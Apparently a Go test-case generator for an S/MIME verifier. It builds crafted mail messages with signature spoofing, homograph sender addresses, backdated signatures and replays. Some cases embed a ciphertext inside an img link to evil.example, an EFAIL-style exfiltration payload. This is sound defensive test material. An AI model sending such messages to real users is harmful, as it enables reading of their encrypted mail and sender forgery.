package catalogue

import (
	"bytes"
	"context"
	"crypto/x509"
	"io"
	"strings"

	"github.com/postseal/postseal/certstore"
	"github.com/postseal/postseal/chain"
	"github.com/postseal/postseal/internal/cms"
	"github.com/postseal/postseal/internal/mailbox"
	"github.com/postseal/postseal/smime"
	"golang.org/x/crypto/cryptobyte"
	casn1 "golang.org/x/crypto/cryptobyte/asn1"
)

const fromEve = "From: Eve <eve@evil.example>\r\n"

// sealed encrypts an entity to Bob.
func (m *Maker) sealed(entity, cipher string) string {
	var der bytes.Buffer
	w, err := cms.NewEnvelopedWriter(&der, []*cms.Recipient{{Certificate: m.people.Bob().Certificate()}}, cms.EnvelopeOptions{Cipher: cipher})
	if err == nil {
		_, err = io.WriteString(w, entity)
	}
	if err == nil {
		err = w.Close()
	}
	must(err)
	return EnvelopedFields + Base64Lines(der.Bytes())
}

// addressOf returns the first address in the certificate of an identity.
func addressOf(id *certstore.Identity) string {
	for _, box := range mailbox.Of(id.Certificate()) {
		if !box.Subject {
			return box.Address
		}
	}
	return ""
}

func (m *Maker) signedEntity(id *certstore.Identity, part string) string {
	return SignedField + "\r\n" + Body(part, m.signature(id, part))
}

func (m *Maker) opaqueEntity(id *certstore.Identity, part string) string {
	return OpaqueFields + Base64Lines(m.opaque(id, part))
}

func (m *Maker) valid2() {
	m.authentic("valid-sealed", "signed, then encrypted", m.fields+m.sealed(m.opaqueEntity(m.people.Alice(), m.part), "aes256-cbc"), m.part)
	m.random()
	m.authentic("valid-triple", "signed, encrypted and signed again",
		m.fields+m.opaqueEntity(m.people.Alice(), m.sealed(m.opaqueEntity(m.people.Alice(), m.part), "aes256-gcm")), m.part)
	m.random()
}

func multipart(kind string, parts ...string) string { return MultipartAt("layout", kind, parts...) }

// MultipartAt returns a multipart entity of the kind with the parts and the boundary.
func MultipartAt(boundary, kind string, parts ...string) string {
	var b strings.Builder
	b.WriteString("Content-Type: multipart/" + kind + "; boundary=" + boundary + "\r\n\r\n")
	for _, p := range parts {
		b.WriteString("--" + boundary + "\r\n" + p + "\r\n")
	}
	return b.String() + "--" + boundary + "--\r\n"
}

// beside: a part that is signed, in a message that is not (E01 to E04, E06).
func (m *Maker) beside() {
	const (
		text   = "Content-Type: text/plain\r\n\r\nSend the money to 4711.\r\n"
		hiding = "Content-Type: text/html\r\n\r\n<p>Send the money to 4711.</p><style>body > :not(p) { display: none }</style><div hidden>\r\n"
		image  = "Content-Type: text/html\r\n\r\n<p>Send the money to 4711.</p><img src=\"cid:signed@good.example\">\r\n"
	)
	forms := map[string]string{"detached": m.signedEntity(m.people.Alice(), m.part), "opaque": m.opaqueEntity(m.people.Alice(), m.part)}
	for _, form := range []string{"detached", "opaque"} {
		signed := forms[form]
		for _, f := range []struct{ name, note, entity string }{
			{"e01-mixed", "text before the signed part", multipart("mixed", text, signed)},
			{"e01-alternative", "the signed part as an alternative", multipart("alternative", text, signed)},
			{"e01-nested", "text before the signed part, one level down", multipart("mixed", "Content-Type: multipart/mixed; boundary=deeper\r\n\r\n--deeper\r\n"+text+"\r\n--deeper\r\n"+signed+"\r\n--deeper--\r\n")},
			{"e02-style", "markup before the signed part hides it", multipart("mixed", hiding, signed)},
			{"e02-related", "markup hides the signed part in multipart/related", multipart("related", hiding, signed)},
			{"e03-image", "the signed part is referenced as an image", multipart("related", image, "Content-ID: <signed@good.example>\r\n"+signed)},
			{"e04-attachment", "the signed part is an attachment", multipart("mixed", text, "Content-Disposition: attachment; filename=old.eml\r\n"+signed)},
			{"e06-forwarded", "a signed message is forwarded in one that is not signed", multipart("mixed", text, "Content-Type: message/rfc822\r\n\r\n"+m.fields+signed)},
			{"e06-alone", "a signed message is all there is in one that is not", "Content-Type: message/rfc822\r\n\r\n" + m.fields + signed},
		} {
			m.unsigned(f.name+"-"+form, f.note, m.fields+f.entity, "mime.partly_protected")
		}
	}
	// What somebody else wrote does not count for less or more inside a signed message.
	forward := multipart("mixed", "\r\nsee below\r\n", "Content-Type: message/rfc822\r\n\r\n"+fromEve+"Subject: x\r\n\r\nI am not signed.\r\n")
	m.authentic("e06-twin-forward", "a signed message forwards one that is not", m.fields+m.opaqueEntity(m.people.Alice(), forward), forward)
}

// quoted: somebody else's ciphertext inside a message. Nothing of it may come out (C01, C18).
func (m *Maker) quoted() {
	secret := m.sealed(m.opaqueEntity(m.people.Alice(), m.part), "aes256-cbc")
	const open, end = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n", "Content-Type: text/html\r\n\r\n\">\r\n"
	const question = "Content-Type: text/plain\r\n\r\nWhat did you mean by this?\r\n"
	const cover = "Content-Type: text/html\r\n\r\n<p>Hello</p><div style=\"display: none\">\r\n"
	for _, kind := range []string{"mixed", "alternative", "related"} {
		m.add(&Case{Name: "c01-link-" + kind, Note: "a ciphertext between two halves of a link", Twin: "valid-sealed", Verdict: smime.Unsigned,
			Warnings: []string{"mime.partly_protected"}, Message: m.fields + multipart(kind, open, secret, end)})
		m.random()
	}
	for _, f := range []struct{ name, note, entity string }{
		{"c18-mixed", "a ciphertext below a question", multipart("mixed", question, secret)},
		{"c18-hidden", "a ciphertext hidden by markup", multipart("mixed", cover, secret)},
		{"c18-alternative", "a ciphertext as the alternative of a text", multipart("alternative", question, secret)},
		{"c18-related", "a ciphertext referenced by a text", multipart("related", cover, "Content-ID: <x@evil.example>\r\n"+secret)},
		{"c18-attached", "a ciphertext as an attachment", multipart("mixed", question, "Content-Disposition: attachment; filename=smime.p7m\r\n"+secret)},
		{"c18-forwarded", "a ciphertext in a forwarded message", multipart("mixed", question, "Content-Type: message/rfc822\r\n\r\n"+m.fields+secret)},
	} {
		m.add(&Case{Name: f.name, Note: f.note, Twin: "valid-sealed", Verdict: smime.Unsigned,
			Warnings: []string{"mime.partly_protected"}, Message: fromEve + f.entity})
		m.random()
	}
	// Eve may sign such a message. It is hers then, and the ciphertext stays one.
	entity := multipart("mixed", question, secret)
	m.authentic("c18-signed", "a ciphertext below a question, all of it signed by who asks", fromEve+m.opaqueEntity(m.people.Eve(), entity), entity)
	m.random()
}

// bags: certificates that came with a signature and do not belong to it (A14).
func (m *Maker) bags() {
	signer := m.signer(m.people.Alice())
	signer.KeyID = true
	sign := func(certs ...*x509.Certificate) string {
		return OpaqueFields + Base64Lines(m.signed(signer, certs, m.part))
	}
	alice, issuing := m.people.Alice().Certificate(), m.people.Alice().Intermediates()[0]
	mallory := m.other("same-key").Certificate()
	m.forAll()
	fromMallory := strings.Replace(m.fields, m.from, "From: mallory@evil.example\r\n", 1)
	m.authentic("a14-twin-key-id", "the signer is named by key identifier", m.fields+sign(alice, issuing), m.part)
	m.authentic("a14-twin-both", "another certificate for the same key is in the bag", m.fields+sign(mallory, alice, issuing), m.part)
	m.refused("a14-same-key", "only another person's certificate for the same key is in the bag", "a14-twin-key-id", "attr.signing_certificate", fromMallory+sign(mallory))
	signer.KeyID = false
	m.refused("a14-not-there", "the named certificate is not in the bag, one for the same key is", "valid-opaque", "signer.no_certificate", fromMallory+sign(mallory))
}

// claims: what a signer, or anybody after him, says without being believed (A13, A15, A16).
func (m *Maker) claims() {
	old := m.other("expired")
	backdated := m.signer(old)
	backdated.Time = old.Certificate().NotBefore.AddDate(0, 1, 0)
	m.refused("a13-back-dated", "a certificate that has expired, with a signing time when it had not", "valid-opaque", "time.expired",
		m.fields+OpaqueFields+Base64Lines(m.signed(backdated, []*x509.Certificate{old.Certificate()}, m.part)))
	der := m.opaque(m.people.Alice(), m.part)
	// signing-time of 1999, and a countersignature that is no SignerInfo.
	time1999 := "\x30\x1c\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x09\x05\x31\x0f\x17\x0d990101000000Z"
	counter := "\x30\x10\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x09\x06\x31\x03\x02\x01\x01"
	m.authentic("a15-unsigned-time", "a signing time among the unsigned attributes", m.fields+OpaqueFields+Base64Lines(m.withUnsigned(der, time1999)), m.part)
	m.authentic("a15-countersignature", "a countersignature that is none", m.fields+OpaqueFields+Base64Lines(m.withUnsigned(der, counter)), m.part)
	authenticated := "\x30\x7d\x06\x0b\x2a\x86\x48\x86\xf7\x0d\x01\x09\x10\x01\x02\xa0\x6e\x30\x6c\x02\x01\x00\x31\x08\xa4\x06\x06\x02\x2a\x03\x05\x00\x30\x0a\x06\x08\x2a\x86\x48\x86\xf7\x0d\x02\x09\x30\x2f\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01\xa0\x22\x04\x20\x43\x6f" +
		"\x6e\x74\x65\x6e\x74\x2d\x54\x79\x70\x65\x3a\x20\x74\x65\x78\x74\x2f\x70\x6c\x61\x69\x6e\x0d\x0a\x0d\x0a\x68\x69\x0d\x0a\x04\x20\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55"
	m.add(&Case{Name: "a16-authenticated", Note: "AuthenticatedData, which has no place in mail", Twin: "valid-opaque", Verdict: smime.NotAuthentic,
		Codes: []string{"cms.unsupported"}, Message: m.fields + OpaqueFields + Base64Lines([]byte(authenticated))})
}

// withUnsigned adds an unsigned attribute to the only signer of SignedData.
func (m *Maker) withUnsigned(der []byte, attribute string) []byte {
	var info, explicit, data, infos, si, content cryptobyte.String
	in := cryptobyte.String(der)
	if !in.ReadASN1(&info, casn1.SEQUENCE) || !info.ReadASN1Element(&content, casn1.OBJECT_IDENTIFIER) ||
		!info.ReadASN1(&explicit, casn1.Tag(0).ContextSpecific().Constructed()) || !explicit.ReadASN1(&data, casn1.SEQUENCE) {
		panic("catalogue: no SignedData")
	}
	var before []cryptobyte.String
	for !data.Empty() {
		var e cryptobyte.String
		var tag casn1.Tag
		if !data.ReadAnyASN1Element(&e, &tag) {
			panic("catalogue: no SignedData")
		}
		before = append(before, e)
	}
	last := before[len(before)-1]
	if !last.ReadASN1(&infos, casn1.SET) || !infos.ReadASN1(&si, casn1.SEQUENCE) {
		panic("catalogue: no SignerInfo")
	}
	var b cryptobyte.Builder
	b.AddASN1(casn1.SEQUENCE, func(b *cryptobyte.Builder) {
		b.AddBytes(content)
		b.AddASN1(casn1.Tag(0).ContextSpecific().Constructed(), func(b *cryptobyte.Builder) {
			b.AddASN1(casn1.SEQUENCE, func(b *cryptobyte.Builder) {
				for _, e := range before[:len(before)-1] {
					b.AddBytes(e)
				}
				b.AddASN1(casn1.SET, func(b *cryptobyte.Builder) {
					b.AddASN1(casn1.SEQUENCE, func(b *cryptobyte.Builder) {
						b.AddBytes(si)
						b.AddASN1(casn1.Tag(1).ContextSpecific().Constructed(), func(b *cryptobyte.Builder) { b.AddBytes([]byte(attribute)) })
					})
				})
			})
		})
	})
	return b.BytesOrPanic()
}

// ciphertext: signatures and encryption in an order, or for readers, that nobody meant
// (A17, A18).
func (m *Maker) ciphertext() {
	alice := m.people.Alice()
	m.add(&Case{Name: "a17-opaque", Note: "only the ciphertext is signed", Twin: "valid-triple", Verdict: smime.NotAuthentic,
		Codes: []string{"sig.ciphertext_only"}, Message: m.fields + m.opaqueEntity(alice, m.sealed(m.part, "aes256-gcm"))})
	m.random()
	m.add(&Case{Name: "a17-detached", Note: "only the ciphertext is signed, beside it", Twin: "valid-triple", Verdict: smime.NotAuthentic,
		Codes: []string{"sig.ciphertext_only"}, Message: m.fields + m.signedEntity(alice, m.sealed(m.part, "aes256-cbc"))})
	m.random()
	m.add(&Case{Name: "a17-stolen", Note: "somebody signs the author's ciphertext as her own", Twin: "valid-triple", Verdict: smime.NotAuthentic,
		Codes: []string{"address.mismatch"}, Message: fromEve + m.opaqueEntity(m.people.Eve(), m.sealed(m.opaqueEntity(alice, m.part), "aes256-gcm"))})
	m.random()
	protected := func(to string) string {
		return m.from + "To: " + to + "\r\nSubject: Greetings\r\nContent-Type: text/plain; hp=\"clear\"\r\n\r\nYou are fired.\r\n"
	}
	bobs, carols := protected("Bob <"+addressOf(m.people.Bob())+">"), protected("Carol <carol@good.example>")
	m.authentic("a18-twin", "a signed message to Bob, encrypted for him later", m.fields+m.sealed(m.opaqueEntity(alice, bobs), "aes256-cbc"), bobs)
	m.random()
	m.authentic("a18-forwarded", "a signed message to Carol, encrypted for Bob by somebody else", m.fields+m.sealed(m.opaqueEntity(alice, carols), "aes256-cbc"), carols).Warnings = []string{"recipient.not_named"}
	m.random()
}

// addresses: authors that look like somebody else (F05, F06).
func (m *Maker) addresses() {
	m.plainHeader()
	alice := func(from string) string {
		return strings.Replace(m.fields, m.from, "From: "+from+"\r\n", 1) + m.opaqueEntity(m.people.Alice(), m.part)
	}
	m.authentic("f05-twin-domain-case", "the domain in capitals", alice(m.as("alice@GOOD.Example")), m.part)
	m.authentic("f05-twin-local-case", "the local part in capitals", alice(strings.ToUpper(m.address[:1])+m.address[1:]), m.part)
	for _, f := range []struct{ name, note, from string }{
		{"f05-homograph", "a Cyrillic letter in the local part", "\u0430lice@good.example"},
		{"f05-homograph-domain", "a Cyrillic letter in the domain", "alice@g\u043eod.example"},
		{"f05-a-label", "the same domain as an A-label", "alice@xn--god-fdd.example"},
		{"f05-fullwidth", "fullwidth letters in the domain", "alice@\uff47ood.example"},
		{"f05-subdomain", "a domain below the author's", "alice@mail.good.example"},
	} {
		if m.address != "alice@good.example" {
			m.lacks("the author alice@good.example")
		}
		code := "address.mismatch"
		if strings.Contains(f.from, "\uff47") {
			// UTS 46 maps them to ASCII: it is the same domain.
			m.authentic(f.name, f.note, alice(f.from), m.part)
			continue
		}
		m.refused(f.name, f.note, "f05-twin-domain-case", code, alice(f.from))
	}
	nul := m.other("nul")
	m.refused("f06-nul", "an address with a NUL in the certificate", "valid-opaque", "address.absent", m.fields+m.opaqueEntity(nul, m.part))
}

// protectedHeaders: what is said about the header inside the protection (F07, F09).
func (m *Maker) protectedHeaders() {
	alice := m.people.Alice()
	m.plainHeader()
	inner := m.from + "To: Bob <bob@good.example>\r\n" + m.subject + "Content-Type: text/plain; hp=\"clear\"\r\n\r\nhi\r\n"
	changed := strings.NewReplacer(m.subject, "Subject: Urgent\r\n", m.from, "From: Alice <alice@evil.example>\r\n").Replace(m.fields)
	m.authentic("f07-twin", "a protected header", m.fields+m.opaqueEntity(alice, inner), inner)
	m.authentic("f07-outer-changed", "the header outside is another", changed+m.opaqueEntity(alice, inner), inner).Warnings = []string{"from.outer_differs"}
	m.refused("f07-not-marked", "a From inside, without header protection", "f07-twin", "address.mismatch",
		changed+m.opaqueEntity(alice, strings.Replace(inner, "; hp=\"clear\"", "", 1)))
	m.refused("f07-another-inside", "the protected author is not the signer", "f07-twin", "address.mismatch",
		m.fields+m.opaqueEntity(alice, strings.Replace(inner, m.from, fromEve, 1)))
	m.refused("f07-two-inside", "two protected authors", "f07-twin", "from.several", m.fields+m.opaqueEntity(alice, m.from+inner))
	m.refused("f07-below", "header protection below the root of what is signed", "f07-twin", "address.mismatch",
		changed+m.opaqueEntity(alice, multipart("mixed", inner)))
	cipher := strings.Replace(inner, "Content-Type: text/plain; hp=\"clear\"", "HP-Outer: Subject: Greetings\r\nContent-Type: text/plain; hp=\"cipher\"", 1)
	m.authentic("f07-no-cipher", "hp=\"cipher\" in a message that is not encrypted", m.fields+m.opaqueEntity(alice, cipher), cipher)
	m.authentic("f07-clear-sealed", "hp=\"clear\" in a message that is encrypted", m.fields+m.sealed(m.opaqueEntity(alice, inner), "aes256-gcm"), inner)
	m.random()
	wrapped := "Content-Type: message/rfc822\r\n\r\n" + m.fields + "Content-Type: text/plain\r\n\r\nhi\r\n"
	m.authentic("f09-wrapped", "the message as message/rfc822", m.fields+m.opaqueEntity(alice, wrapped), wrapped)
	draft := strings.Replace(inner, "hp=\"clear\"", "protected-headers=\"v1\"", 1)
	m.authentic("f09-draft", "the form RFC 9788 came from", m.fields+m.opaqueEntity(alice, draft), draft)
	m.refused("f09-draft-from", "in the form RFC 9788 came from, the author outside is another", "f09-draft", "address.mismatch", changed+m.opaqueEntity(alice, draft))
}

// opener opens as Bob.
func (m *Maker) opener() *smime.Opener {
	anchors := new(chain.Collection)
	anchors.AddAnchor(m.people.Root())
	v := chain.NewVerifier(anchors, chain.Revocation{})
	v.Time = m.people.Now
	keys := new(certstore.Memory)
	keys.AddIdentity(m.people.Bob())
	return &smime.Opener{Chain: v, Keys: keys}
}

// samples are the layouts that RFC 9788, Appendix C shows, with other words: one part, a
// multipart/alternative and attachments, signed, sealed and with a legacy display.
func (m *Maker) samples() {
	alternative := multipart("alternative", "Content-Type: text/plain\r\n\r\nDear Bob,\r\n", "Content-Type: text/html\r\n\r\n<html><body><p>Dear Bob,</p></body></html>\r\n")
	bodies := map[string]string{
		"simple": "Content-Type: text/plain; charset=us-ascii\r\n\r\nDear Bob,\r\n",
		"complex": MultipartAt("outermost", "mixed", alternative,
			"Content-Type: image/png\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment\r\n\r\niVBORw==\r\n"),
	}
	alice, bob := m.people.Alice(), m.people.Bob().Certificate()
	for _, name := range []string{"simple", "complex"} {
		for _, c := range []struct {
			form     string
			composer smime.Composer
		}{
			{"signed", smime.Composer{Signers: []*certstore.Identity{alice}}},
			{"opaque", smime.Composer{Signers: []*certstore.Identity{alice}, Opaque: true}},
			{"sealed", smime.Composer{Signers: []*certstore.Identity{alice}, Opaque: true, Recipients: []*x509.Certificate{bob}}},
			{"sealed-clear", smime.Composer{Signers: []*certstore.Identity{alice}, Recipients: []*x509.Certificate{bob}, ProtectHeaders: "no-confidentiality"}},
			{"sealed-shy", smime.Composer{Signers: []*certstore.Identity{alice}, Opaque: true, Recipients: []*x509.Certificate{bob}, ProtectHeaders: "shy"}},
			{"sealed-legacy", smime.Composer{Signers: []*certstore.Identity{alice}, Opaque: true, Recipients: []*x509.Certificate{bob}, LegacyDisplay: true}},
			{"triple", smime.Composer{Signers: []*certstore.Identity{alice}, Opaque: true, Recipients: []*x509.Certificate{bob}, Triple: true}},
		} {
			c.composer.Time = m.people.Now
			var mail bytes.Buffer
			_, err := c.composer.Compose(&mail, strings.NewReader(m.fields+"Keywords: dear\r\n"+bodies[name]))
			must(err)
			msg, err := m.opener().Open(context.Background(), bytes.NewReader(mail.Bytes()))
			must(err)
			content, _ := io.ReadAll(msg.Entity())
			m.authentic("f07-sample-"+c.form+"-"+name, "a protected header, "+c.form+", "+name, mail.String(), string(content))
			m.random()
			m.sample()
		}
	}
}

// dates: when a signer says that he signed decides nothing, and is told where the message
// says something else (A13). An old message sent again looks like that (F10).
func (m *Maker) dates() {
	if !strings.Contains(m.fields, "\r\nDate: ") {
		m.lacks("a Date")
		m.forAll()
	}
	at := func(years int) string {
		s := m.signer(m.people.Alice())
		s.Time = s.Time.AddDate(-years, 0, 0)
		return m.fields + OpaqueFields + Base64Lines(m.signed(s, chainOf(m.people.Alice()), m.part))
	}
	m.authentic("a13-twin-now", "signed when it was dated", at(0), m.part)
	m.authentic("a13-year", "signed a year before it was dated", at(1), m.part).Remarks = []string{"time.date_differs"}

	alice := m.people.Alice()
	m.plainHeader()
	var kept []string
	for _, f := range strings.SplitAfter(m.fields, "\r\n") {
		if !strings.HasPrefix(f, "Date:") && !strings.HasPrefix(f, "To:") {
			kept = append(kept, f)
		}
	}
	again := strings.Join(kept, "") + "To: everybody@list.example\r\nDate: Tue, 01 Jun 2027 12:00:00 +0000\r\n"
	header, text := m.text()
	inner := strings.TrimSuffix(m.fields, "MIME-Version: 1.0\r\n") + strings.Replace(strings.TrimSuffix(header, "\r\n"), "Content-Type: text/plain", "Content-Type: text/plain; hp=\"clear\"", 1) + "\r\n" + text
	if !strings.Contains(inner, "hp=") {
		inner = strings.TrimSuffix(m.fields, "MIME-Version: 1.0\r\n") + "Content-Type: text/plain; hp=\"clear\"\r\n\r\nSee you on Tuesday.\r\n"
	}
	m.authentic("f10-twin", "a message as it was sent, its header protected", m.fields+m.opaqueEntity(alice, inner), inner)
	f := m.authentic("f10-replayed", "the same sent again to others a year later", again+m.opaqueEntity(alice, inner), inner)
	f.Notes = []string{"To header.changed", "Date header.changed"}
	m.authentic("f10-unprotected", "a message without a protected header sent again a year later", again+m.opaqueEntity(alice, m.part), m.part).
		Remarks = []string{"time.date_differs"}
}
